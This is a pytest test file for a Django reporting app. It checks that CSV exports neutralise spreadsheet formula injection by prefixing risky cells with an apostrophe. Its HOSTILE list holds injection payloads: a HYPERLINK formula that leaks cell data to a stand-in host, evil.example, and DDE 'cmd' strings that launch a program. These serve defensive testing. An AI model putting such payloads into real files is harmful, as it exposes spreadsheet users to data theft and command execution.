"""CSV formula injection (issue 17 point 6): no cell of any CSV the app writes can run as a
formula in a spreadsheet (OWASP: a text cell starting = + - @ tab or CR is prefixed with ').

One test per export, each with a hostile value where users (or administrators, through
reference data) can put text: the access log download, the dashboard's table downloads and
the reoffending report command's CSV.
"""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from hub.lib import csvexport
from hub.models import AccessLog, District
from tests.reporting.builders import caution, person, reoffence

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def dangerous(cell: str) -> bool:
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not csvexport.is_number(cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_writer_neutralises_every_formula_start(value):
    out = io.StringIO()
    csvexport.writer(out).writerow(["plain", value, 42, -3, 1.5, None])
    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row[1] == "'" + value
    assert row[0] == "plain"
    assert row[2:5] == ["42", "-3", "1.5"]
    assert row[5] == ""


@pytest.mark.parametrize("value", ["-3", "-0.25", "+4", "-1e3", "12.5%", "-12.5%"])
def test_numbers_written_as_text_stay_numbers(value):
    # A plain number is not a formula: figures such as a negative difference keep their sign.
    assert csvexport.safe_cell(value) == value


def test_a_streaming_writer_returns_each_line(officer):
    class Echo:
        def write(self, value):
            return value

    line = csvexport.writer(Echo()).writerow(["=1+1", "ok"])
    assert line == "'=1+1,ok\r\n"


def test_access_log_download(as_user, administrator, officer):
    client = as_user(administrator)
    AccessLog.objects.create(
        user=officer,
        username="officer1",
        action="disclosure",
        object_type="hub.person",
        description=HOSTILE[0],
        justification=HOSTILE[1],
        recipient=HOSTILE[2],
        path="/people/1/",
    )
    response = client.post(
        reverse("hub:audit_log"), {"justification": HOSTILE[3], "recipient": HOSTILE[4]}
    )
    body = b"".join(response.streaming_content).decode()
    found = cells(body)
    for value in HOSTILE[:3]:
        assert "'" + value in found
    assert not [cell for cell in found if dangerous(cell)]


def _hostile_district_report():
    district = District.objects.create(name=HOSTILE[0])
    for i in range(6):
        who = person(first_name=f"Csvforename{i}q", last_name=f"Csvsurname{i}q")
        caution(who, "2016-03-01", district=district.name)
        if i % 2:
            reoffence(who, "2016-06-01", "2016-07-01")
    return district


def test_dashboard_table_download(as_user, analyst):
    _hostile_district_report()
    window = "date_from=2016-01-01&date_to=2016-12-31&as_of=2018-01-01"
    response = as_user(analyst).post(
        reverse("reporting:export", args=["breakdown-district"]) + "?" + window,
        {"justification": "Panel report", "recipient": HOSTILE[1]},
    )
    assert response["Content-Type"].startswith("text/csv")
    found = cells(response.content.decode())
    assert "'" + HOSTILE[0] in found
    assert not [cell for cell in found if dangerous(cell)]


def test_reoffending_report_command_csv():
    _hostile_district_report()
    out = io.StringIO()
    call_command(
        "reoffending_report",
        "--from",
        "2016-01-01",
        "--to",
        "2016-12-31",
        "--as-of",
        "2018-01-01",
        "--format",
        "csv",
        stdout=out,
    )
    found = cells(out.getvalue())
    assert "'" + HOSTILE[0] in found
    assert not [cell for cell in found if dangerous(cell)]


def test_every_csv_writer_in_the_app_goes_through_the_helper():
    """A new export must use hub.lib.csvexport: the standard library's writer is used there
    only (the demo's import files are inputs to the importer, not exports: see its module)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    allowed = {"hub/lib/csvexport.py", "demo/historic.py"}
    offenders = []
    for path in root.glob("*/**/*.py"):
        relative = path.relative_to(root).as_posix()
        if relative.startswith((".venv", "tests/", "bench/", "static/")) or relative in allowed:
            continue
        text = path.read_text()
        if "csv.writer(" in text or "csv.DictWriter(" in text:
            offenders.append(relative)
    assert not offenders, f"CSV written without hub.lib.csvexport: {offenders}"
